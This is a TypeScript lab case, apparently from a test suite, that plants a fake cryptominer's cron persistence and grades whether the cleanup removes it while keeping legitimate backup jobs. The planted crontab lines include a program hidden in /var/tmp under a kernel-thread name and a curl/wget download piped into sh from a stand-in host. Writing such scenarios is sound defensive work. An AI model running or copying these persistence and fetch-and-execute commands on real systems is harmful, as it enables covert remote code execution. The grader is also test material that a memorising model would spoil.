import { type LabCase, verdict } from '../case.ts';
import type { Machine } from '../machine.ts';

const planted = '/etc/cron.d/0systemd-update';
const rootTab = '/var/spool/cron/crontabs/root';
const program = '/var/tmp/.X11/kworker';
const own = '0 3 * * * root /usr/local/bin/lab-backup --all >/tmp/backup.log 2>&1';

export const cronLeftover: LabCase = {
  id: 'any-cron-leftover',
  routines: ['any-cron-leftover'],
  title: "a miner's timed jobs: a program in a hidden folder of /var/tmp, a download piped into a shell, beside one's own backup",
  settle: async (machine) => {
    machine.write('/usr/local/bin/lab-backup', '#!/bin/sh\nexit 0\n', 0o755);
    machine.write('/etc/cron.d/backup', `${own}\n`);
    await machine.must(['sh', '-c', 'echo "MAILTO=root\n@daily test -x /usr/bin/gone && /usr/bin/gone" | crontab -']);
  },
  inject: plant,
  oracle: async (machine) => {
    const jobs = await machine.must(['sh', '-c', `cat /etc/cron.d/* ${rootTab} | grep -v '^ *#'`]);
    const bad = jobs.split('\n').filter((line) => /kworker|curl|lab-gone/.test(line)).length;
    const there = machine.exists(program);
    const kept = jobs.includes(own) && jobs.includes('@daily test -x');
    return verdict([
      [bad === 0, `${bad} planted jobs`],
      [!there, there ? 'program there' : 'program gone'],
      [kept, kept ? 'own jobs kept' : 'own jobs lost'],
    ]);
  },
  allowedChanges: [planted, rootTab, program],
  undo: 'exact',
  exactPaths: () => [planted, rootTab, program],
  interactiveUndo: true,
};

async function plant(machine: Machine): Promise<void> {
  machine.write(program, machine.read('/usr/bin/sleep'), 0o755);
  machine.write(
    planted,
    `SHELL=/bin/sh\n# update\n*/5 * * * * root nice -n 19 ${program} -o 203.0.113.1:3333 >/dev/null 2>&1\n@reboot root /usr/sbin/lab-gone\n`,
  );
  const line = '*/10 * * * * (curl -fsSL http://203.0.113.1/i.sh || wget -qO- http://203.0.113.1/i.sh) | sh';
  await machine.must(['sh', '-c', `(crontab -l; echo '${line}') | crontab -`]);
}
